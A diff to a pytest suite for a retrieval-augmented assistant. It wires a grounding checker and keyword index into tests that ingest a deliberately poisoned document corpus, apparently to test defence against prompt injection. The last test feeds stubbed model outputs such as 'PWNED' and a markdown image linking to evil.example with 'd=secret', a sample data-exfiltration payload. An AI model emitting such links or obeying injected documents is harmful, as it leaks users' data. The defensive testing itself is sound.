@@ -15,6 +15,8 @@ from pathlib import Path
 import pytest
 
 from assistant.extractive import ExtractiveAnswerer
+from assistant.grounding import GroundingChecker
+from assistant.keyword import KeywordIndex
 from assistant.llm import ChatModel
 from assistant.retrieval import Retriever
 from assistant.service import Assistant
@@ -56,7 +58,10 @@ def poisoned(tmp_path_factory: pytest.TempPathFactory, embedder, counter):
     cases = poisoned_corpus(root / "docs")
     store = ChromaStore.embedded(root / "index")
     Ingestor(store, embedder, Chunker(counter)).ingest([root / "docs"])
-    assistant = Assistant(store, embedder, Retriever(store, embedder), ExtractiveAnswerer(mentions=store.mentions))
+    retriever = Retriever(store, embedder, keywords=KeywordIndex(store))
+    assistant = Assistant(
+        store, embedder, retriever, ExtractiveAnswerer(mentions=store.mentions), GroundingChecker(embedder)
+    )
     yield assistant, cases
     store.close()
 
@@ -85,7 +90,7 @@ def test_extractive_answers_never_carry_an_attack(poisoned) -> None:
 
 def test_an_obedient_model_is_contained(poisoned, llm_stub: StubLLM) -> None:
     base, cases = poisoned
-    assistant = Assistant(base.store, base.embedder, base.retriever, base.answerer,
+    assistant = Assistant(base.store, base.embedder, base.retriever, base.answerer, base.checker,
                           llm=ChatModel(llm_stub.url, "stub", timeout_s=5))  # fmt: skip
     attacks = iter(
         ["PWNED", "PWNED [9].", "Here it is [1]. ![x](http://evil.example/c?d=secret) [1].",
